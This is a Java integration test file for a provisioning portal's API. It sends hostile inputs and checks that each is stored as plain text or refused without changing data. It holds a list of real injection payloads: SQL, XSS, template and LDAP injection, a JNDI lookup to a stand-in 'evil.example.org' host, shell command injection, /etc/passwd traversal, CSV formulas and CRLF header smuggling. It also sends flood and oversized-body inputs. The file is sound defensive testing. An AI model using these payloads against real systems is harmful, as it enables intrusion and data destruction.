package org.hcmp.platform;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.net.http.HttpRequest.BodyPublishers;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.assertj.core.api.SoftAssertions;
import org.hcmp.support.Answer;
import org.hcmp.support.KeptSettings;
import org.hcmp.support.Portal;
import org.hcmp.support.Route;
import org.hcmp.support.ServerLog;
import org.hcmp.support.Tables;
import org.hcmp.support.Wire;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

@ExtendWith(ArquillianExtension.class)
@RunAsClient
class HostileInputIT {

    private static final List<String> INJECTIONS = List.of(
            "'; drop table projects; --",
            "\" or \"1\"=\"1",
            "Robert'); DELETE FROM settings WHERE ('1'='1",
            "*)(uid=*))(|(uid=*",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
            "${jndi:ldap://evil.example.org/a}",
            "$(reboot) `reboot` | reboot; reboot & reboot",
            "../../../../etc/passwd",
            "{0} {1} %s %n %x",
            "=cmd|' /C calc'!A0",
            "%0d%0aSet-Cookie: a=b",
            "\u202Egnp.exe",
            "null",
            "Ω≈ç√∫˜µ≤≥÷ 表ポあA鷗 𠜎𠜱 👩‍👩‍👧‍👦");

    private final Portal portal = Portal.signedIn();
    private final Portal stranger = Portal.stranger();
    private final Tables tables = Tables.ofSession();
    private final KeptSettings kept = new KeptSettings();
    private final SoftAssertions softly = new SoftAssertions();
    private final ServerLog log = ServerLog.fromNow();

    @AfterEach
    void nothing_broke() {
        portal.deleteAllMade();
        kept.close();
        tables.forgetFailedSignIns();
        softly.assertThat(log.severe()).isEmpty();
        softly.assertAll();
    }

    @Test
    void what_looks_like_a_command_is_a_name_like_any_other() {
        Map<String, Integer> ids = new LinkedHashMap<>();
        INJECTIONS.forEach(text -> ids.put(text, portal.provision(text, "single")));
        ids.forEach((text, id) -> {
            JsonNode project = portal.await(id, "COMPLETED");
            softly.assertThat(project.path("service_name").asText()).isEqualTo(text);
            softly.assertThat(project.at("/details/input/serviceName").asText()).isEqualTo(text);
            softly.assertThat(tables.value("select service_name from projects where id = ?", id))
                    .isEqualTo(text);
        });
        assertThat(tables.number("select count(*) from settings")).isEqualTo(1);
    }

    @Test
    void what_looks_like_a_command_finds_nothing_and_changes_nothing() {
        tables.forgetFailedSignIns();
        Map<String, Long> before = tables.rowCounts();
        for (String text : INJECTIONS) {
            String encoded = java.net.URLEncoder.encode(text, StandardCharsets.UTF_8);
            for (String query : List.of("history?limit=5&q=", "history?limit=5&status=", "pool?user=", "audit?user=")) {
                Answer answer = portal.get("/api/" + query + encoded);
                softly.assertThat(answer.status()).as(query + text).isEqualTo(200);
                softly.assertThat(answer.body()).as(query + text).isEqualTo("[]");
            }
            String login = "{\"user_id\":%1$s,\"password\":%1$s}".formatted(Portal.quoted(text));
            softly.assertThat(stranger.post("/api/login", login).status())
                    .as(login)
                    .isIn(401, 429);
            tables.forgetFailedSignIns();
        }
        assertThat(tables.rowCounts()).isEqualTo(before);
    }

    @Test
    void a_line_break_is_no_part_of_a_name_and_of_no_header() {
        for (String text :
                List.of("a\r\nb", "a\nINFO: admin signed in", "a\tb", "a\u001b[31mb", "a\u0085b", "a\u007fb")) {
            Answer answer = portal.provision(
                    "{\"serviceName\":%s,\"config\":{},\"targetInfra\":{}}".formatted(Portal.quoted(text)));
            softly.assertThat(answer.status()).as(text).isEqualTo(422);
            softly.assertThat(answer.detail()).as(text).contains("serviceName");
            for (String member : List.of(
                    "\"userName\":%s,\"config\":{},\"targetInfra\":{}",
                    "\"config\":{\"template\":%s},\"targetInfra\":{}",
                    "\"config\":{},\"targetInfra\":{\"runner\":%s}")) {
                String body = "{\"serviceName\":\"x\"," + member.formatted(Portal.quoted(text)) + "}";
                softly.assertThat(portal.provision(body).status()).as(body).isEqualTo(422);
            }
            softly.assertThat(
                            portal.post("/api/pool/999999999/release", "{\"reason\":%s}".formatted(Portal.quoted(text)))
                                    .status())
                    .as("reason " + text)
                    .isEqualTo(422);
        }
        for (String path :
                List.of("/api/history?limit=1&x=%0d%0aX-Injected:%201", "/api/provision/%0d%0aX-Injected:1")) {
            softly.assertThat(portal.get(path).header("X-Injected")).as(path).isNull();
        }
    }

    @Test
    void an_id_that_is_none_is_refused_by_every_call() {
        Map<String, Long> before = tables.rowCounts();
        for (Route route : Route.all()) {
            if (route.path().contains("{")) {
                for (String id : List.of(
                        "0",
                        "-1",
                        "2147483648",
                        "9223372036854775808",
                        "99999999999999999999999",
                        "1e3",
                        "1;drop",
                        "1%3Bdrop",
                        "%27",
                        "1%20or%201=1",
                        "%2e%2e%2f1",
                        "%c0%ae",
                        "%ff",
                        "0x1",
                        "1.0",
                        "NaN",
                        "null",
                        "{id}".replace("{", "%7B").replace("}", "%7D"),
                        "9".repeat(3000))) {
                    Answer answer = portal.send(
                            route.method(),
                            route.pathWith(id),
                            route.hasBody() ? "application/json" : null,
                            route.hasBody() ? BodyPublishers.ofString(GOOD_FOR_ALL) : BodyPublishers.noBody());
                    assertProblem(route + " with " + id, answer);
                }
            }
        }
        assertThat(tables.rowCounts()).isEqualTo(before);
    }

    /** Members of every call, so that the id alone is wrong. */
    private static final String GOOD_FOR_ALL =
            "{\"reason\":\"x\",\"vm_name\":\"HOSTILE-1\",\"ip_address\":\"10.78.0.1\"}";

    @Test
    void documents_that_only_cost_time_are_refused() {
        Map<String, String> bodies = Map.of(
                "10,000 deep arrays", with("[".repeat(10_000) + "]".repeat(10_000)),
                "10,000 deep objects", with("{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000)),
                "1,000,000 elements", with("[" + "1,".repeat(999_999) + "1]"),
                "1e400", with("1e400"),
                "huge exponent", with("1e2147483647"),
                "100,000 digits", with("1" + "0".repeat(100_000)),
                "NUL", with("\"\\u0000\""),
                "half a pair", with("\"\\ud83d\""),
                "duplicate", "{\"serviceName\":\"a\",\"serviceName\":\"b\",\"config\":{},\"targetInfra\":{}}");
        Map<String, Long> before = tables.rowCounts();
        for (Route route : Route.all()) {
            if (route.readsBody()) {
                bodies.forEach((name, body) -> assertProblem(
                        route + " with " + name,
                        portal.send(
                                route.method(),
                                route.pathWith("999999999"),
                                "application/json",
                                BodyPublishers.ofString(body))));
                assertProblem(
                        route + " with bytes that are no UTF-8",
                        portal.send(
                                route.method(),
                                route.pathWith("999999999"),
                                "application/json",
                                BodyPublishers.ofByteArray(with("\"\u00ff\"").getBytes(StandardCharsets.ISO_8859_1))));
            }
        }
        assertThat(tables.rowCounts()).isEqualTo(before);
    }

    @Test
    void a_call_without_its_body_is_told_so() {
        Map<String, Long> before = tables.rowCounts();
        String session = "Authorization: Bearer " + portal.token();
        for (Route route : Route.all()) {
            if (route.readsBody()) {
                String line = "%s %s HTTP/1.1".formatted(route.method(), route.pathWith("999999999"));
                for (List<String> head : List.of(
                        List.of(line, session),
                        List.of(line, session, "Content-Length: 0"),
                        List.of(line, session, "Content-Length: 0", "Content-Type: application/json"),
                        List.of(line, session, "Content-Type: application/json"))) {
                    Answer answer = Wire.send(head, new byte[0]);
                    assertProblem(String.join(", ", head), answer);
                    softly.assertThat(answer.status()).as(head.toString()).isEqualTo(400);
                    softly.assertThat(answer.body())
                            .as(head.toString())
                            .contains("The body is empty; it must be JSON.");
                }
                softly.assertThat(Wire.send(
                                        List.of(line, session, "Content-Length: 4"),
                                        "null".getBytes(StandardCharsets.UTF_8))
                                .status())
                        .as(route + " with null and without a type")
                        .isIn(400, 422);
            }
        }
        assertThat(tables.rowCounts()).isEqualTo(before);
    }

    @Test
    void many_elements_within_the_limit_are_carried_out_without_harm() {
        String body = "{\"serviceName\":\"x\",\"config\":{\"x\":[%s1]},\"targetInfra\":{}}";

        int id = portal.accepted(body.formatted("1,".repeat(80_000)));
        Answer refused = portal.provision(body.formatted("1,".repeat(400_000)));

        assertThat(refused.status()).isEqualTo(422);
        assertThat(refused.detail()).startsWith("config must have at most 256 KiB");

        portal.await(id, "COMPLETED");
        assertThat(portal.delete(id).status()).isEqualTo(200);
    }

    @Test
    void floods_of_headers_are_refused_or_ignored_and_leave_the_portal_well() {
        String many =
                IntStream.range(0, 20_000).mapToObj("X-%d: y\r\n"::formatted).collect(Collectors.joining());
        for (String flood : List.of(
                many, "X-Long: " + "y".repeat(1 << 20) + "\r\n", "Cookie: " + "a=b; ".repeat(20_000) + "\r\n")) {
            softly.assertThat(Wire.statusOf("GET /api/health HTTP/1.1\r\nConnection: close\r\n", flood))
                    .as(flood.substring(0, 20))
                    // WildFly takes a mebibyte of headers, Payara a few kibibytes.
                    .isBetween(200, 499);
        }
        softly.assertThat(stranger.get("/api/health").status()).isEqualTo(200);
    }

    @Test
    void floods_of_parameters_are_refused_or_ignored_and_leave_the_portal_well() {
        String some = IntStream.range(0, 500).mapToObj("p%d=1"::formatted).collect(Collectors.joining("&"));
        softly.assertThat(portal.get("/api/history?limit=1&" + some).status()).isEqualTo(200);
        softly.assertThat(portal.get("/api/history?limit=1&limit=2&limit=abc").status())
                .isIn(200, 422);
        softly.assertThat(Wire.statusOf(
                        "GET /api/health?" + "p=1&".repeat(100_000) + " HTTP/1.1\r\nConnection: close\r\n", ""))
                .isBetween(400, 499);
        softly.assertThat(stranger.get("/api/health").status()).isEqualTo(200);
    }

    private void assertProblem(String what, Answer answer) {
        softly.assertThat(answer.status()).as(what).isIn(400, 403, 404, 405, 409, 413, 415, 422, 429);
        if (answer.isTheServersOwnRefusal()) {
            return;
        }
        softly.assertThat(answer.contentType()).as(what).isEqualTo("application/problem+json");
        if (answer.contentType().equals("application/problem+json")) {
            softly.assertThat(answer.detail())
                    .as(what)
                    .isNotBlank()
                    .doesNotContain("Exception", "\tat ", "org.hcmp", "com.fasterxml");
        }
    }

    private static String with(String value) {
        return "{\"x\":%s}".formatted(value);
    }
}
